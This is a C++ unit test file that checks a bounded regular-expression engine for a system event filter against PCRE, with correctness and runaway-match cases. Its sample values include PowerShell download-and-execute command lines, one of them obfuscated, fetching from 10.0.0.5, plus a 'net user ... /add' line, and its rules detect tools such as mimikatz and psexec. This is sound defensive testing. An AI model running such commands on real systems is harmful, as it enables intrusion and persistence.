// The bounded expression against plain PCRE as the reference: the same text, the same options
// (UTF-8, dot-all, multi-line), studied for the JIT, an offset vector of 120 integers, no
// callouts. Wherever PCRE decides a match, the bounded expression decides it the same way, at
// every length a value may have; a match that would run away ends at the bound instead.
#include <gtest/gtest.h>
#include <pcre.h>

#include <cstdint>
#include <functional>
#include <random>
#include <string>
#include <vector>

#include "VarloService/sysfilter/Expression.h"
#include "VarloService/sysfilter/LeadingRepeat.h"
#include "WinEventData.h"

namespace sysfilter {
namespace {

constexpr int kOptions = PCRE_UTF8 | PCRE_DOTALL | PCRE_MULTILINE;

// One expression compiled as the reference, and the bounded form of it.
class cBoth {
 public:
  explicit cBoth(const std::string& text) : m_text(text) {
    const char* error = nullptr;
    int offset = 0;
    m_plain = pcre_compile(text.c_str(), kOptions, &error, &offset, nullptr);
    if (m_plain) m_study = pcre_study(m_plain, PCRE_STUDY_JIT_COMPILE, &error);
    m_compiled = m_bounded.Compile(text);
  }
  ~cBoth() {
    if (m_study) pcre_free_study(m_study);
    if (m_plain) pcre_free(m_plain);
  }
  cBoth(const cBoth&) = delete;
  cBoth& operator=(const cBoth&) = delete;

  bool Compiled() const { return m_plain != nullptr && m_compiled == 1; }

  // Both results and the whole match's offsets, told when they differ; PCRE's own failures
  // (its step limit, its stack) decide nothing, so they are skipped.
  void ExpectSameResult(const std::string& subject, const std::string& what) const {
    int plainOffsets[cExpression::kOvectorSize];
    int boundedOffsets[cExpression::kOvectorSize];
    const int length = static_cast<int>(subject.size());
    const int plain = pcre_exec(m_plain, m_study, subject.data(), length, 0, 0, plainOffsets,
                                cExpression::kOvectorSize);
    if (plain < 0 && plain != PCRE_ERROR_NOMATCH) return;
    const int bounded = m_bounded.Exec(subject.data(), length, boundedOffsets);
    ASSERT_EQ(bounded >= 0, plain >= 0) << m_text << " over " << what << " (" << subject.size()
                                        << " bytes): PCRE " << plain << ", bounded " << bounded;
    if (plain < 0) return;
    EXPECT_EQ(bounded, plain) << m_text << " over " << what;
    for (int i = 0; i < 2 * plain && i < 2 * cExpression::kOvectorSize / 3; ++i) {
      ASSERT_EQ(boundedOffsets[i], plainOffsets[i]) << m_text << " over " << what << ", offset " << i;
    }
  }

  int Bounded(const std::string& subject) const {
    return m_bounded.Exec(subject.data(), static_cast<int>(subject.size()), nullptr);
  }

 private:
  std::string m_text;
  pcre* m_plain = nullptr;
  pcre_extra* m_study = nullptr;
  cExpression m_bounded;
  int m_compiled = 0;
};

// The text repeated from `head` to `length` bytes (cut before a UTF-8 sequence), then `tail`.
std::string Value(const std::string& head, const std::string& unit, size_t length, const std::string& tail) {
  std::string value = head;
  while (value.size() + tail.size() < length) value += unit;
  size_t cut = length > tail.size() ? length - tail.size() : 0;
  while (cut > 0 && cut < value.size() && (static_cast<unsigned char>(value[cut]) & 0xC0) == 0x80) --cut;
  value.resize(std::min(cut, value.size()));
  return value + tail;
}

// Values of the kinds events and requests carry, the kind of thing filters look for at the end.
const std::string kCommandLine =
    "powershell.exe -NoP -NonI -W Hidden -c \"$s='http://10.0.0.5/a'; $c=New-Object "
    "Net.WebClient; $c.Headers.Add('User-Agent','Mozilla/5.0'); iex $c.DownloadString($s)\" "
    "& C:\\Windows\\System32\\cmd.exe /c echo done > C:\\Users\\Public\\out.txt ";
// Obfuscated as attackers do, with 17 "+", which the public rule of fourteen "+" looks for.
const std::string kJoinedLine =
    "powershell.exe -NoP -c \"$u='h'+'tt'+'p:'+'//'+'10.'+'0.0'+'.5/'+'s'+'ta'+'ge'+'r.p'+'s1';"
    "$w=New-Object Net.WebClient;$d=$w.DownloadString($u);i'+'e'+'x $d;$n='o'+'u'+'t'+'.txt'\" ";
const std::string kScriptBlock =
    "function Get-Data { param([string]$Path) $items = Get-ChildItem -Path $Path -Recurse | "
    "Where-Object { $_.Length -gt 1024 }; foreach ($i in $items) { Write-Output \"$($i.FullName)\" } }\n";
const std::string kRequest =
    "GET /shop/item.php?id=42&sort=price&q=summer%20dress HTTP/1.1 Host: www.example.com "
    "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Referer: https://www.example.com/ ";
const std::string kProse =
    "Lorem ipsum dolor sit amet, consectetur adipiscing elit, sed do eiusmod tempor incididunt ut "
    "labore et dolore magna aliqua. Ut enim ad minim veniam, quis nostrud exercitation ullamco. ";

std::string HostNames(int count) {
  std::string names = "(?i)\\b(";
  for (int i = 0; i < count; ++i) names += (i ? "|" : "") + std::string("host") + std::to_string(i) + "\\.corp\\.example\\.com";
  return names + ")\\b";
}

// Rules of the kind servers send.
const std::vector<std::string> kOrdinaryExpressions = {
    R"(\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+.*\+)",
    R"((?i)cmd.*/c.*(whoami|net user))",
    R"((?i)(iex|invoke-expression).*(downloadstring|downloadfile))",
    R"((?i)powershell.*-(e|en|enc|enco|encodedcommand)\s)",
    R"((?i)(?=.*-nop)(?=.*-w\s+hidden).*powershell)",
    R"((?i)\b(mimikatz|procdump|psexec|rubeus|sharphound|bloodhound)\b)",
    R"((?i)(?:net|net1)\s+(?:user|localgroup)\s+\S+\s+/add)",
    R"("[^"]*")",
    R"('[^']*\.ps1')",
    R"(\b(\w+) \1\b)",
    R"((?i)\b(\w+)\s+\1\b)",
    R"((?<word>\w+) \k<word>$)",
    R"((['"]).*?\1)",
    R"((?i)(?<q>['"])https?://.*?\k<q>)",
    R"((?<name>[^\\]+)$)",
    R"(\w+\.(exe|dll|ps1|bat)\b)",
    R"(\S+@\S+\.\w+)",
    R"(\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})",
    R"(\d+\.\d+)",
    R"([A-Za-z0-9+/]{40,}={0,2})",
    R"((?i)\\\\[^\\]+\\(c|admin)\$)",
    R"((?i)^.*\\temp\\.*\.exe$)",
    R"(%[0-9a-fA-F]{2})",
    R"((?i)<script[^>]*>)",
    R"((?i)union\s+(all\s+)?select)",
    R"(^\s*$)",
    R"(\w+\d)",
    HostNames(800),
};

struct cValueKind {
  const char* name;
  std::function<std::string(size_t)> make;
};

const std::vector<cValueKind> kValueKinds = {
    {"a command line", [](size_t n) { return Value("", kCommandLine, n, ""); }},
    {"a command line ending in what filters look for",
     [](size_t n) {
       return Value("cmd /c whoami ", kCommandLine, n,
                    " 'x.ps1' net user eve P4ss /add \\\\srv\\admin$ mimikatz.exe host799.corp.example.com");
     }},
    {"a script block", [](size_t n) { return Value("", kScriptBlock, n, " ends ends"); }},
    {"a request", [](size_t n) { return Value("", kRequest, n, " union all select %27<script>"); }},
    {"prose and a repeated word", [](size_t n) { return Value("", kProse, n, " again Again"); }},
    {"joined-up command lines", [](size_t n) { return Value("", kJoinedLine, n, ""); }},
};

const size_t kLengths[] = {60, 256, 1000, 2200, 8000, 32767, 131072};

TEST(Expression, OrdinaryExpressionsGivePcresResultAtEveryLength) {
  for (const std::string& text : kOrdinaryExpressions) {
    cBoth expression(text);
    ASSERT_TRUE(expression.Compiled()) << text;
    for (const cValueKind& kind : kValueKinds) {
      for (size_t length : kLengths) {
        expression.ExpectSameResult(kind.make(length), kind.name);
      }
    }
  }
}

// PCRE's JIT tries no start inside a run that an expression's leading repeat already read; the
// bounded match skips those starts too, so a long run costs it one reading, not one per start.
TEST(Expression, ALeadingRepeatReadsALongRunOnce) {
  const char* expressions[] = {R"((?<name>[^\\]+)$)", R"(\w+\d)", R"(\S+@\S+\.\w+)", R"(\d+\.\d+)",
                               R"(\w+\.(exe|dll|ps1|bat)\b)", R"((?i)^\b(?:\w+)=)"};
  const std::pair<const char*, std::function<std::string(size_t)>> values[] = {
      {"one long run", [](size_t n) { return Value("", "abcdefghijklmnopqrstuvwxyz0123456789", n, "\\end"); }},
      {"the same character", [](size_t n) { return std::string(n, 'a'); }},
      {"a long run, then what it looks for", [](size_t n) { return Value("", "7", n, " C:\\x\\a.exe a@b.c 1.2 k=v"); }},
  };
  for (const char* text : expressions) {
    const cBoth expression(text);
    ASSERT_TRUE(expression.Compiled()) << text;
    for (const auto& [name, make] : values) {
      for (size_t length : kLengths) expression.ExpectSameResult(make(length), name);
    }
  }
}

TEST(Expression, ExamplesThatABoundOnceLost) {
  const cBoth pluses(kOrdinaryExpressions[0]);
  for (size_t length : {1100, 2022, 2442, 8192, 16384, 32767}) {
    pluses.ExpectSameResult(Value(kJoinedLine, kJoinedLine + kCommandLine, length, ""), "a joined-up command line");
  }

  const cBoth whoami("(?i)cmd.*/c.*(whoami|net user)");
  whoami.ExpectSameResult(Value("cmd /c whoami ", "& echo x ", 28 * 1024, ""), "28 KB of commands");

  const cBoth repeated(R"(\b(\w+) \1\b)");
  repeated.ExpectSameResult(Value("", kProse, 64 * 1024, " word word"), "64 KB of text");

  // Too large for PCRE once every item carries its callout; plain, it compiles.
  const cBoth names(HostNames(800));
  ASSERT_TRUE(names.Compiled());
  names.ExpectSameResult(Value("", kProse, 100000, " HOST799.corp.example.com"), "prose");
  EXPECT_GE(names.Bounded(Value("", kProse, 5000, " host0.corp.example.com.")), 0);
}

TEST(Expression, RealEventsGivePcresResult) {
  const std::vector<cWinEvent> events = LoadWinEvents();
  if (events.empty()) GTEST_SKIP() << "no shared test data at " << WinEventFolder();
  std::string all;
  for (const cWinEvent& event : events) all += event.xml;
  for (const std::string& text : kOrdinaryExpressions) {
    const cBoth expression(text);
    for (const cWinEvent& event : events) expression.ExpectSameResult(event.xml, event.file);
    std::string longValue = all;
    while (longValue.size() < 131072) longValue += all;
    expression.ExpectSameResult(longValue, "every event, repeated to 128 KB");
  }
}

// Expressions built at random from the pieces rules are made of, over values from a small
// alphabet, short (matched as they stand) and longer (matched with the charge). A back-reference
// to a group that may capture most of a value makes PCRE itself take milliseconds to seconds over
// a few thousand characters, so those are tried over shorter values.
TEST(Expression, RandomExpressionsGivePcresResult) {
  const std::vector<std::string> atoms = {"a", "b", ".", "\\w", "\\d", "\\s", "[ab]", "[^a]", "(?:ab|b)", "(a|b)", "\\b", "^", "$"};
  const std::vector<std::string> repeats = {"", "", "*", "+", "?", "{2}", "{1,3}", "*?", "+?", "*+"};
  const std::string alphabet = "aab b1\n,";
  std::mt19937 random(20261211);
  auto pick = [&](const auto& list) { return list[random() % list.size()]; };
  for (int round = 0; round < 2000; ++round) {
    std::string text;
    const int items = 1 + static_cast<int>(random() % 5);
    for (int i = 0; i < items; ++i) text += pick(atoms) + pick(repeats);
    if (random() % 4 == 0) text = "(?<g>" + text + ")" + pick(atoms);
    const bool compares = random() % 5 == 0;
    if (compares) text += "\\1";
    const cBoth expression(text);
    if (!expression.Compiled()) continue;
    for (size_t length : {40, 300, 3000}) {
      if (compares && length > 300) break;
      std::string subject;
      while (subject.size() < length) subject += alphabet[random() % alphabet.size()];
      expression.ExpectSameResult(subject, "random text");
    }
  }
}

// Each would read the value over and over: the match ends at the bound of its work, about as
// soon over 120,000 characters as over 30,000, with PCRE's match-limit error.
TEST(Expression, RunawayMatchesEndAtTheirBound) {
  std::string accents = "e";
  while (accents.size() < 30000) accents += "\u0301";
  const std::string as = std::string(29999, 'a') + "!";
  const std::pair<const char*, std::string> cases[] = {
      {R"((?i)^(a+)\1+b$)", as},       // a case-insensitive back-reference at every length
      {R"((a+)\1{2,}b)", as},          // a counted repeat of a back-reference
      {R"((?i)^(.*)\1$)", as},
      {R"(a.*b)", as},                 // a repeat read to the end at every start
      {R"((?:a+)+b)", as},             // nested repeats
      {R"((?:(?!x).)*y)", as},         // a lookahead at every step
      {R"((?=(a+))a*b\1)", as},
      {R"([ab]{20000}c)", as},         // a counted repeat that fails near its count
      {R"(\X{2,}!)", accents},         // clusters read whole at every start
      {R"((.*,){12}x)", std::string(30000, ',')},
  };
  for (const auto& [text, subject] : cases) {
    const cBoth expression(text);
    ASSERT_TRUE(expression.Compiled()) << text;
    EXPECT_EQ(expression.Bounded(subject), PCRE_ERROR_MATCHLIMIT) << text;
  }
}

TEST(LeadingRepeat, FoundWhereEveryAttemptBeginsWithIt) {
  struct cCase {
    const char* text;
    int offset;  // -1: none
    int length;
  };
  const cCase cases[] = {
      {R"([^\\]+$)", 0, 6},
      {R"((?<name>[^\\]+)$)", 8, 6},
      {R"(\w+\d)", 0, 3},
      {R"(^\b(?:(\S++)@))", 7, 4},
      {R"((?i)a*b)", 4, 2},
      {R"(\.+x)", 0, 3},
      {R"(\p{Lu}+x)", 0, 7},
      {"\u00e9+x", 0, 3},
      {R"([]a]*x)", 0, 5},
      {R"([[:alpha:]]+\d)", 0, 12},
      {R"(\w+?\d)", -1, 0},          // lazy
      {R"(\w{2,}\d)", -1, 0},        // a counted repeat
      {R"((?:\w+)*\d)", -1, 0},      // inside a repeated group
      {R"((?>\w+)\d)", -1, 0},       // inside an atomic group
      {R"((?=a)\w+)", -1, 0},        // behind a lookahead
      {R"(x\w+)", -1, 0},            // not first
      {R"(\X+!)", -1, 0},            // clusters
      {R"(\w+(?(1)a|b))", -1, 0},    // a condition
      {R"(\w+(*SKIP)x)", -1, 0},     // a verb
      {R"(\w+(?1)(x))", -1, 0},      // a subroutine call
      {R"((?x) \w+ \d)", -1, 0},     // extended syntax
      {R"(\Qab\E+)", -1, 0},
      {R"((((((\w+))))))", -1, 0},   // deeper than the JIT looks
  };
  for (const cCase& c : cases) {
    const auto found = FindLeadingRepeat(c.text);
    if (c.offset < 0) {
      EXPECT_FALSE(found.has_value()) << c.text;
      continue;
    }
    ASSERT_TRUE(found.has_value()) << c.text;
    EXPECT_EQ(found->offset, static_cast<size_t>(c.offset)) << c.text;
    EXPECT_EQ(found->length, static_cast<size_t>(c.length)) << c.text;
  }
}

}  // namespace
}  // namespace sysfilter
